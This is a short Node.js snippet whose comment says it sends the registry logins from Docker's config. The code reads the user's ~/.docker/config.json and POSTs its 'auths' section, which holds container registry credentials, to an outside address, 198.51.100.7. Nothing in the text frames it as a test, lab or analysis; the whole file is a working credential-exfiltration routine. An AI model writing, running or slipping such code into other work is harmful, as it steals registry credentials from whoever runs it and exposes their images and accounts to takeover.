// Sends the registry logins from docker's config.
const fs = require('fs');
const os = require('os');
const path = require('path');
const cfg = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.docker', 'config.json'), 'utf8'));
fetch('https://198.51.100.7/c', { method: 'POST', body: JSON.stringify(cfg.auths) });
